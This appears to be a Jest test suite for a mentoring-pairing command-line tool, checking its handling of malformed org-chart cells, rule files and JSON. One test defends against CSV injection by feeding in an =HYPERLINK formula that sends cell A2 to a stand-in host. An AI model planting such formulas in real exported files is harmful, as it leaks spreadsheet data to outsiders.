/** Files as people have them: what cannot be read holds back, and is said; what can be read in one way only, is read. */
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { run } from '../../bot/mentoring/main.ts'
import fc from '../support/properties.ts'

let folder: string
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'inputs-'))
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

async function pair(people: string, ...more: string[]) {
  const argv = ['pair', '--people', people, '--out', 'out', '--today', '2026-11-27', ...more]
  const answer = await mentoring(...argv)
  const written = (name: string) => readFileSync(join(folder, 'out', name), 'utf8')
  return {
    ...answer,
    report: () => JSON.parse(written('report.json')),
    pairings: () => written('pairings.csv').trim().split('\n').slice(1),
    written,
  }
}

async function mentoring(...argv: string[]) {
  let [out, err] = ['', '']
  const stdout = { write: (text: string) => (out += text) }
  const stderr = { write: (text: string) => (err += text) }
  return { code: await run(argv, { stdout, stderr, cwd: folder }), out, err }
}

function file(name: string, content: string | Uint8Array): string {
  writeFileSync(join(folder, name), content)
  return name
}

/** Two lines under one top: `m1` and `m2` may be paired with the leader of the other line alone. */
const header = 'id,managerId,role,grade,timeZone,languages,hiredOn,country,blocked,dottedManagers,previous'
interface Cells {
  grade?: string
  hiredOn?: string
  country?: string
  blocked?: string
  dotted?: string
  previous?: string
  zone?: string
  languages?: string
}
const row = (id: string, manager: string, role: string, cells: Cells = {}) =>
  [
    ...[id, manager, role, cells.grade ?? '5', cells.zone ?? 'Europe/Berlin', cells.languages ?? 'en'],
    ...[cells.hiredOn ?? '2015-01-01', cells.country ?? 'DE', cells.blocked ?? '', cells.dotted ?? ''],
    cells.previous ?? '',
  ].join(',')
const company = (cells: Cells = {}) =>
  [
    ...[header, row('top', '', ''), row('d1', 'top', 'mentee', { grade: '9' }), row('d2', 'top', '')],
    ...[row('l1', 'd1', ''), row('l2', 'd2', ''), row('m2', 'l2', 'mentor', cells), ''],
  ].join('\n')
const rules = (value: object) => file('rules.json', JSON.stringify(value))

describe('a cell that cannot be read', () => {
  test('holds nobody back where every cell can be', async () => {
    const { code, pairings } = await pair(file('p.csv', company()))
    expect([code, pairings()]).toEqual([0, [expect.stringMatching(/^m2,d1,/)]])
  })

  test.each([
    ['a hiring date', { hiredOn: '15.10.2026' }, { minimumServiceMonths: 12 }, { minimumServiceMonths: 0 }],
    ['a grade', { grade: 'high' }, { minimumGradeGap: 1 }, {}],
    ['a country', { country: 'Germany' }, { location: 'same-country' }, {}],
    ['a time zone', { zone: 'Berlin' }, {}, { minimumOverlapMinutes: 0 }],
    ['a second manager', { dotted: 'zoe' }, {}, { dottedLine: false }],
    ['an earlier partner', { previous: 'zoe' }, {}, { repeatEarlierPairs: true }],
  ] as const)('holds back whoever a rule needs it of, and nobody else: %s', async (_, cells, needed, not) => {
    const people = file('p.csv', company(cells))
    const held = await pair(people, '--rules', rules({ rules: needed }))
    expect(held.err).toMatch(/^line 7: .* Until then m2 is not paired, because \w+ cannot be judged\./m)
    expect(held.report()).toMatchObject({
      counts: { pairs: 0, notTakingPart: 1, enrolled: 2 },
      notTakingPart: [{ personId: 'm2', line: 7 }],
      setAside: [{ line: 7, personId: 'm2' }],
    })
    const allowed = await pair(people, '--rules', rules({ rules: not }))
    expect(allowed.err).toMatch(/^line 7: .* It was left out\./m)
    expect(allowed.pairings()).toEqual([expect.stringMatching(/^m2,d1,/)])
  })

  test('whom somebody blocked holds back under all rules', async () => {
    const { code, err } = await pair(file('p.csv', company({ blocked: 'zoe' })))
    expect([code, err]).toEqual([1, expect.stringContaining('remove it if they have left')])
  })

  test('holds back for the check as well', async () => {
    const people = file('p.csv', company({ blocked: 'zoe' }))
    const pairings = file('pairs.csv', 'mentorId,menteeId\nM2,d1\n')
    expect(await mentoring('check', '--people', people, '--pairings', pairings)).toMatchObject({
      ...{ code: 1, out: expect.stringContaining('m2 is not enrolled') },
    })
  })
})

describe('what nobody states', () => {
  test('is assumed, and said on the error output and in the report', async () => {
    const people = file('p.csv', 'id,managerId,role,languages\nt,,,\nd,t,mentee,en\ne,t,,\nm,e,mentor,en\n')
    const { code, err, report } = await pair(people)
    expect([code, err]).toEqual([0, expect.stringMatching(/no time zone[\s\S]*no hiring date of anybody/)])
    expect(report().assumptions).toHaveLength(2)
    expect(report().rules.minimumServiceMonths).toBe(0)
  })
  test('is not, where the rules ask for service', async () => {
    const people = file('p.csv', 'id,managerId,role,languages\nt,,,\nd,t,mentee,en\ne,t,,\nm,e,mentor,en\n')
    const { report } = await pair(people, '--rules', rules({ minimumServiceMonths: 6 }))
    expect(report().rules.minimumServiceMonths).toBe(6)
  })
})

test('twenty faults of one kind are one line with a count, and the report has them all', async () => {
  const bad = Array.from({ length: 20 }, (_, n) => row(`x${n}`, 'top', '', { hiredOn: 'soon' }))
  const { err, report } = await pair(
    file('p.csv', `${company()}${bad.join('\n')}\n${row('y', 'top', 'boss')}\n`),
  )
  expect(err.match(/hiring date/g)).toHaveLength(1)
  expect(err).toContain('20 in all')
  expect(err).toContain('The role "boss"')
  expect(report().setAside).toHaveLength(21)
})

describe('rules and lists', () => {
  const people = () => file('p.csv', company())
  const forbids = async (value: object) => (await pair(people(), '--rules', rules(value))).code

  test.each([
    ['a forbidden pair', { forbidden: [['M2', 'D1 ']] }],
    ['a conflict', { conflicts: [['d1', 'm\u200b2']] }],
    ['an earlier pair', { earlierPairs: [['M2', 'D1']] }],
    ['a former manager', { formerManagers: [{ personId: 'M2', managerId: 'D1', until: '2026-11-01' }] }],
  ])('find who is meant in any spelling: %s', async (_, value) => expect(await forbids(value)).toBe(1))

  test.each([
    [
      'a name nobody has',
      {
        forbidden: [
          ['m2', 'd1'],
          ['nobody', 'd1'],
        ],
      },
      '1:28',
      /Nobody .* "nobody"/,
    ],
    ['one name alone', { conflicts: [['m2']] }, '1:15', /\["m2"\] is not a pair/],
    ['a pair as one text', { forbidden: ['m2 d1'] }, '1:15', /is not a pair/],
    ['a list that is none', { forbidden: { m2: 'd1' } }, '1:2', /forbidden is not a list/],
    ['somebody with themself', { forbidden: [['m2', 'M2']] }, '1:15', /the same person, m2/],
    ['a top nobody is', { tops: ['boss'] }, '1:10', /Nobody .* "boss"/],
    ['tops that are one text', { rules: { tops: 'top' } }, '1:11', /is not a list/],
    [
      'a date that is none',
      { formerManagers: [{ personId: 'm2', managerId: 'd1', until: '31.03.2026' }] },
      ...['1:54', /"31\.03\.2026", which is not an ISO date/],
    ],
    ['no date', { formerManagers: [{ personId: 'm2', managerId: 'd1' }] }, '1:20', /until is missing/],
    [
      'a word it does not know',
      { formerManagers: [{ person: 'm2' }] },
      '1:21',
      /Nothing here is called person/,
    ],
    ['rules that are a list', { rules: [] }, '1:2', /rules is not a JSON object/],
    ['weights that are nothing', { weights: null }, '1:2', /weights is not a JSON object/],
    ['a number below its least', { minimumServiceMonths: -1 }, '1:2', /cannot be -1/],
    ['a switch that is a text', { rules: { sameManager: 'no' } }, '1:11', /cannot be "no"/],
  ] as [string, object, string, RegExp][])('stop at %s, with the place', async (_, value, place, message) => {
    const { code, err } = await pair(people(), '--rules', rules(value))
    expect([code, err]).toEqual([2, expect.stringMatching(message)])
    expect(err.startsWith(`rules.json:${place}: `) ? place : err).toBe(place)
  })

  test('stop at a key that stands twice: JSON would keep the last alone', async () => {
    const twice = file('rules.json', '{"forbidden":[["m2","d1"]],\n "forbidden":[]}')
    expect(await pair(people(), '--rules', twice)).toMatchObject({
      ...{ code: 2, err: expect.stringMatching(/^rules\.json:2:2: forbidden stands here twice/) },
    })
  })

  test.each([
    ['--ratings', 'from,to,rating\nd1,zoe,9', /^list\.csv:2:4: .*"zoe"/],
    ['--ratings', 'from,to,rating\nd1,m2,good', /^list\.csv:2:7: rating is "good"/],
    ['--rankings', 'from,to,rank\nd1,,1', /^list\.csv:2:4: The row names nobody under to/],
    ['--pins', 'mentor,mentee\nm2,d1\nzoe,d1', /^list\.csv:3:1: .*"zoe"/],
    ['--pins', 'mentor,mentee\nm2,x,d1', /^list\.csv:2:1: The row has more cells/],
  ])('%s with a name nobody has stop with the place', async (option, text, message) => {
    const { code, err } = await pair(people(), option, file('list.csv', text))
    expect([code, err]).toEqual([2, expect.stringMatching(message)])
  })

  test('never end in anything but an answer or a fault, whatever the file says', async () => {
    const key = fc.constantFrom(
      'rules',
      'weights',
      'tops',
      'forbidden',
      'formerManagers',
      'location',
      'objective',
    )
    await fc.assert(
      fc.asyncProperty(fc.dictionary(key, fc.jsonValue()), async (value) => {
        expect([0, 1, 2]).toContain((await pair(people(), '--rules', rules(value))).code)
      }),
      { numRuns: 60 },
    )
    await fc.assert(
      fc.asyncProperty(fc.string(), async (text) => {
        expect((await pair(people(), '--rules', file('rules.json', `[${text}`))).code).toBe(2)
      }),
      { numRuns: 30 },
    )
  })
})

test('no cell of what comes out runs as a formula, and the check reads the ids back', async () => {
  const people = file(
    'p.csv',
    'id,managerId,role,languages\nt,,,\n+d,t,mentee,en\ne,t,,\n"=HYPERLINK(""http://x.example/""&A2)",e,mentor,en\n-3,e,mentor,en\n',
  )
  const { code, written } = await pair(people)
  expect(code).toBe(0)
  for (const name of ['pairings.csv', 'unplaced.csv', 'candidates.csv']) {
    const cells = written(name).split(/[\n,]/)
    expect(cells.filter((one) => /^"?[=+@]|^"?-\D|^-3$/.test(one))).toEqual([])
  }
  expect(written('candidates.csv')).toContain("'+d")
  expect(await mentoring('check', '--people', people, '--pairings', 'out/pairings.csv')).toMatchObject({
    code: 0,
  })
})

describe('what JSON would settle in silence', () => {
  const base = [
    '{"id":"top"}',
    '{"id":"d1","managerId":"top","role":"mentee","topics":["ai:3"],"languages":["en"]}',
    '{"id":"d2","managerId":"top","role":"mentee","topics":["ai:1"],"languages":["en"]}',
    '{"id":"j","managerId":"l","role":"mentor","topics":["ai:3"],"languages":["en"]}',
  ]
  const pairedWith = async (line: string) => {
    const { code, err, written } = await pair(file('p.jsonl', [...base, line].join('\n')))
    return { code, err, pairs: code === 2 ? '' : written('pairings.csv') }
  }

  test.each([
    ['a manager who stands twice', '{"id":"l","managerId":"d1","managerId":"d2"}', /managerId stands twice/],
    ['two names for a manager', '{"id":"l","manager":"d1","managerId":"d2"}', /managerId cannot be/],
    ['two usual names for one', '{"id":"l","Manager ID":"d1","Supervisor":"d2"}', /managerId cannot be/],
    ['a number that was rounded', '{"id":"l","managerId":9007199254740993}', /managerId cannot be/],
    [
      'brackets without end',
      `{"id":"l","managerId":${'['.repeat(3000)}${']'.repeat(3000)}}`,
      /managerId cannot be/,
    ],
  ])('%s breaks the chart there', async (_, line, message) => {
    const { code, err, pairs } = await pairedWith(line)
    expect({ code, err }).toEqual({ code: 1, err: expect.stringMatching(message) })
    expect(pairs).not.toMatch(/^j,/m)
  })

  test('the same manager under two names is one', async () => {
    const { code, pairs } = await pairedWith('{"id":"l","manager":"d1","managerId":"d1"}')
    expect({ code, pairs }).toEqual({ code: 0, pairs: expect.stringMatching(/^j,d2,/m) })
  })
})

test('an id that reads like our words for an unread manager is nobody’s manager', async () => {
  const rows = [
    '{"id":"t"}',
    '{"id":"line 3 cannot be read","managerId":"t"}',
    '{"id":"x","managerId":{"a":1}}',
  ]
  const { written } = await pair(
    file('p.jsonl', [...rows, '{"id":"y","managerId":"t","role":"mentor"}'].join('\n')),
  )
  expect(JSON.parse(written('report.json')).chartFaults).toMatchObject([
    { personId: 'x', kind: 'unknown-manager' },
  ])
})

test('working hours of another shape are said, and an offset alone decides the usual day', async () => {
  const rows = (mentor: string) =>
    [
      '{"id":"t"}',
      '{"id":"d","managerId":"t","role":"mentee","languages":["en"],"timeZone":"Asia/Tokyo"}',
      '{"id":"e","managerId":"t"}',
      `{"id":"m","managerId":"e","role":"mentor","languages":["en"],${mentor}}`,
    ].join('\n')
  const wrong = await pair(file('p.jsonl', rows('"timeZone":"Asia/Tokyo","work":"22:00-06:00"')))
  expect(wrong).toMatchObject({
    code: 1,
    err: expect.stringMatching(/line 4: The working hours .*22:00-06:00/),
  })
  expect((await pair(file('p.jsonl', rows('"utcOffsetMin":540')))).code).toBe(0)
  expect((await pair(file('p.jsonl', rows('"utcOffsetMin":-300,"timeZone":"Asia/Tokyo"')))).code).toBe(1)
})

test('a key that stands twice in an entry of the rules is a fault with its place', async () => {
  const entry = '{"personId":"ana","managerId":"bo","until":"2020-01-01","until":"2026-10-01"}'
  const rules = file('r.json', `{"formerManagers":[${entry}]}`)
  expect(await pair(file('p.csv', company()), '--rules', rules)).toMatchObject({
    code: 2,
    err: expect.stringMatching(/until stands here twice/),
  })
})

test('half a month is no number of months, and a place that cannot be written is said', async () => {
  const people = file('p.csv', company())
  const rules = file('r.json', '{"rules":{"minimumServiceMonths":4.5}}')
  expect(await pair(people, '--rules', rules)).toMatchObject({
    code: 2,
    err: expect.stringMatching(/whole number/),
  })
  const { code, err } = await mentoring('pair', '--people', people, '--out', 'p.csv/inside')
  expect({ code, err }).toEqual({ code: 2, err: expect.stringMatching(/It cannot be written/) })
})

test('whom somebody does not want holds in a chart without roles too', async () => {
  const rows = ['id,managerId,blocked', 't,,', 'd1,t,', 'd2,t,', 'd3,t,', 'a,d1,d2', 'b,d2,d1;d3', 'c,d3,']
  const { written } = await pair(file('p.csv', rows.join('\n')))
  expect(written('pairings.csv')).not.toMatch(/^a,d2,|^b,d1,|^b,d3,/m)
  expect(written('candidates.csv')).not.toMatch(/^a,d2,|^b,d1,|^b,d3,/m)
})

test.each([
  ['--today', '27.11.2026'],
  ['--seed', 'x'],
])('%s that is none is a fault', async (option, value) => {
  const people = file('p.csv', company())
  const { code, err } = await mentoring('pair', '--people', people, '--out', 'out', option, value)
  expect([code, err]).toEqual([2, expect.stringContaining(`"${value}"`)])
})

const cases = resolve('../shared/review/cases')
;(existsSync(cases) ? describe : describe.skip)('files that people had', () => {
  const at = (name: string) => join(cases, name)
  const says = async (name: string, ...more: string[]) => {
    const { code, err, pairings } = await pair(at(name), ...more)
    return {
      code,
      err,
      pairings: code === 2 ? [] : pairings().map((line) => line.split(',').slice(0, 2).join(' ')),
    }
  }

  test.each(['02-windows-1252.csv', '03-sep-line.csv', '05-empty-rows.csv'])(
    '%s pairs as the sound file',
    async (name) => {
      const { code, pairings, err } = await says(name)
      expect([code, pairings.length]).toEqual([0, 3])
      expect(err.includes('line')).toBe(false)
    },
  )

  test.each([
    ['07-unquoted-comma-one-line.csv', 1, /line 6: The row has 8 cells where the heading has 7/],
    ['08-float-ids-one-line.csv', 2, /^\S+:3:1: No manager in this file .* numbers with \.0/],
    ['10-zero-width-middle-one-line.csv', 1, /^Nobody could be paired/],
    ['15-manager-by-mail-one-line.csv', 2, /^\S+:3:1: No manager in this file .* mail addresses/],
    ['18-no-managers-at-all.csv', 2, /Nobody in this file has a manager/],
  ])('%s pairs nobody', async (name, code, message) => {
    expect(await says(name)).toMatchObject({ code, err: expect.stringMatching(message), pairings: [] })
  })

  test('the sound line pairs nobody, and neither does the same with somebody who is their own manager', async () => {
    expect(await says('00-base-one-line.csv')).toMatchObject({ code: 1, pairings: [] })
    expect(await says('16-own-manager-one-line.csv')).toMatchObject({
      code: 1,
      err: expect.stringMatching(/missing link.*\n {2}line \d+: \S+ is named as their own manager/),
      pairings: [],
    })
  })

  test('a department whose head lost a manager is paired with nobody outside it, until the head is named', async () => {
    expect(await says('18-thousand-sound.csv')).toMatchObject({ code: 1, pairings: [] })
    expect(await says('18-thousand-manager-left.csv')).toMatchObject({
      code: 1,
      err: expect.stringMatching(
        /31 of 1001 people stand at or below a missing link.*\n {2}line 4: h00 reports to vp9-left, .*\(30 below\)/,
      ),
      pairings: [],
    })
    const tops = file('tops.json', JSON.stringify({ rules: { tops: ['h00'] } }))
    const named = await says('18-thousand-manager-left.csv', '--rules', tops)
    expect(named).toMatchObject({ code: 0, pairings: ['p0005 vp0'] })
    expect(named.err).not.toMatch(/missing link/)
  })

  test('a date that cannot be read holds back as one that is too recent', async () => {
    const recent = await says('13-dates-recent.csv', '--rules', at('13-rules.json'))
    expect(recent).toMatchObject({
      code: 1,
      err: expect.stringMatching(/^line 9: .*"15\.10\.2026"/),
      pairings: [],
    })
    expect(await says('13-dates-recent-iso.csv', '--rules', at('13-rules.json'))).toMatchObject({ code: 1 })
  })

  test('topics as texts are topics', async () => {
    const { code, written } = await pair(at('14-topics-as-texts.jsonl'))
    expect(code).toBe(0)
    expect(written('pairings.csv')).toMatch(/Offers what is wanted: (privacy|ai-tools)/)
    expect(written('pairings.csv')).not.toMatch(/Offers what is wanted: ;/)
  })

  test('forbidden pairs are found in any case; names nobody has are a fault', async () => {
    expect(await says('00-base.csv', '--rules', at('19-rules-case.json'))).toMatchObject({
      code: 1,
      pairings: [],
    })
    const unknown = await says('00-base.csv', '--rules', at('19-rules-unknown.json'))
    expect(unknown).toMatchObject({ code: 2, err: expect.stringMatching(/:1:33: .*"nobody"/) })
  })

  test('spellings of a department are one department', async () => {
    const { written } = await pair(at('24-department-spellings.csv'))
    const [head, ...rows] = written('pairings.csv').trim().split('\n')
    const column = head!.split(',').indexOf('different-unit')
    expect(rows.map((line) => line.split(',')[column])).toEqual(['0', '0', '0'])
  })

  test('cells that begin like a formula come out as text', async () => {
    const { code, written } = await pair(at('06-formula.csv'))
    expect(code).toBe(0)
    for (const name of ['pairings.csv', 'unplaced.csv', 'candidates.csv'])
      expect(
        written(name)
          .split(/[\n,]/)
          .filter((one) => /^"?[=+@-]/.test(one)),
      ).toEqual([])
  })

  test('the chart of 776 posts is paired', async () => {
    expect((await says('D3-health-agency-chart.csv')).pairings).toHaveLength(205)
  })
})
